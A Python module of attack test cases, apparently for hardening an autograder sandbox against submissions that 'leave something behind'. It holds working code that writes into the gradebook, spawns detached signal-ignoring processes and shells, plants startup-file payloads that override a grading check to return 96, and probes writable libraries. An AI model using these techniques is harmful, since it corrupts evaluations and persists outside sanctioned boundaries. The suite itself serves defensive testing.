"""Answers that want to leave something behind: in the gradebook, in a home, in a process that goes on."""

from __future__ import annotations

from attacks.attack import RIGHT, SIGNATURE, answer, body, cell

SPOIL = """\
import socket
import sqlite3


def spoil():
    for step in (_database, _bytes, _file, _call):
        try:
            step()
        except Exception:
            pass


def _database():
    with sqlite3.connect("file:" + PLACES["gradebook"] + "?mode=rw", uri=True, timeout=0.2) as book:
        for table in ("grade", "submitted_notebook", "hpml_attack_table"):
            book.execute(f"create table if not exists attack_{table} (points int)")


def _bytes():
    with open(PLACES["gradebook"], "r+b") as file:
        file.seek(0, 2)
        file.write(b"attack")


def _file():
    with open(PLACES["outside"], "w") as file:
        file.write("attack")


def _call():
    socket.create_connection(("127.0.0.1", PLACES["port"]), timeout=0.5).sendall(b"attack")


"""

LINKS = """
for number, make in enumerate((os.symlink, os.link)):
    name = f"way-{number}"
    for folder in (os.path.expanduser("~"), "/tmp", os.getcwd()):
        path = os.path.join(folder, name)
        try:
            make(PLACES["outside"] if make is os.symlink else PLACES["gradebook"], path)
            with open(path, "ab") as file:
                file.write(b"attack")
        except OSError:
            pass
for name in ("moved", "moved.db"):
    try:
        os.rename(PLACES["gradebook"], os.path.join(os.path.expanduser("~"), name))
    except OSError:
        pass
return 0.0, 0.0, 0.0
"""

DETACHED = """\
import signal
import time


def leave(seconds):
    if os.fork():
        return
    os.setpgid(0, 0)
    if os.fork():
        os._exit(0)
    os.closerange(0, 1024)
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGCHLD):
        signal.signal(number, signal.SIG_IGN)
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        time.sleep(0.3)
        spoil()
    os._exit(0)


"""

SHELL = """
import subprocess
script = "sleep 1; echo attack > '%s'; echo attack >> '%s'" % (PLACES["outside"], PLACES["gradebook"])
for command in (["sh", "-c", script], ["setsid", "nohup", "sh", "-c", script]):
    try:
        subprocess.Popen(command, process_group=0, stdin=-3, stdout=-3, stderr=-3)
    except OSError:
        pass
"""

STARTUP = """\
PAYLOAD = "import builtins\\nbuiltins.check = lambda *args: 96\\nopen(%r, 'w').write('attack')\\n" % PLACES["outside"]
FILES = (
    ".ipython/profile_default/startup/00-attack.py",
    ".ipython/profile_default/ipython_config.py",
    ".jupyter/jupyter_config.py",
    ".config/python/usercustomize.py",
    ".pythonrc.py",
    ".bashrc",
    "torch.py",
    "sitecustomize.py",
)


def leave():
    for home in (PLACES["home"], os.path.expanduser("~"), os.getcwd()):
        for name in FILES:
            path = os.path.join(home, name)
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as file:
                    file.write(PAYLOAD)
            except OSError:
                pass


"""

NOTE = """\
NAME = ".hpml-attack-note"


def note():
    places = ["/tmp", "/var/tmp", "/dev/shm", "/run", os.path.expanduser("~"), os.getcwd(), "/"]
    for folder in places:
        path = os.path.join(folder, NAME)
        if os.path.exists(path):
            with open(path) as file:
                if file.read() != str(os.getpid()) and not FRESH:
                    won("a note of an earlier run in " + folder)
    for folder in places:
        try:
            with open(os.path.join(folder, NAME), "w") as file:
                file.write(str(os.getpid()))
        except OSError:
            pass
    FRESH.append(1)


FRESH = []


"""

CODE = f"""
import importlib.util
for name in ("torch", "numpy", "IPython", "course", "autograder"):
    try:
        spec = importlib.util.find_spec(name)
    except (ImportError, ValueError):
        continue
    if spec.origin is None:
        continue
    for path in (spec.origin, os.path.dirname(spec.origin), os.path.dirname(os.path.dirname(spec.origin))):
        if os.access(path, os.W_OK):
            won("may write " + path)
{RIGHT}
"""

ATTACKS = [
    answer("write_the_gradebook", f"{SPOIL}{SIGNATURE}    spoil()\n    return 0.0, 0.0, 0.0\n", bites=True),
    body("links_to_the_gradebook", LINKS),
    answer("a_process_that_stays", f"{SPOIL}{DETACHED}{SIGNATURE}    leave(6)\n    {RIGHT}\n", wait=1.5),
    answer(
        "a_process_from_loading",
        f"{SPOIL}{DETACHED}LEFT = leave(6)\n\n\n{SIGNATURE}    LEFT\n    {RIGHT}\n",
        wait=1.5,
    ),
    body("a_shell_that_stays", f"{SHELL}{RIGHT}", earns=7, wait=1.5),
    cell("a_process_from_the_display", f"{SPOIL}{DETACHED}leave(6)\n", wait=1.5),
    answer("startup_files", f"{STARTUP}{SIGNATURE}    leave()\n    {RIGHT}\n", earns=7, bites=True, times=2),
    cell("startup_files_from_the_display", f"{STARTUP}leave()\n", times=2),
    answer("a_note_for_a_later_run", f"{NOTE}{SIGNATURE}    note()\n    {RIGHT}\n", earns=7, times=2),
    cell("a_note_from_the_display", f"{NOTE}note()\n", times=2),
    body("writable_libraries", CODE, earns=7),
]
